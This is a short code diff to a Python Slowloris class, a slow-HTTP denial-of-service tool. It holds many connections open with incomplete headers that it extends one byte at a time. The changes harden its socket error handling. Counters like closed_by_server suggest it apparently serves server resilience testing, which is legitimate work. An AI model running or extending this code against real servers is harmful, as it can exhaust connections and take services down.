@@ -65,10 +65,15 @@ class Slowloris:
         src = self.sources[i % len(self.sources)] if self.sources else None
         try:
             s = _open(self.host, self.port, self.tls, src, timeout=5.0)
+        except OSError:
+            self.open_failed += 1
+            return
+        try:
             s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
             s.settimeout(0.0)
         except OSError:
             self.open_failed += 1
+            s.close()
             return
         self.opened += 1
         self._socks[i] = s
@@ -81,6 +86,8 @@ class Slowloris:
                 if s.recv(4096) == b"":
                     raise ConnectionResetError  # closed by the server
             s.send(b"X")  # one more byte of an endless header name
+        except (BlockingIOError, ssl.SSLWantWriteError):
+            pass  # its send buffer is full: still open, try again next round
         except (OSError, ssl.SSLError):
             self.closed_by_server += 1
             s.close()
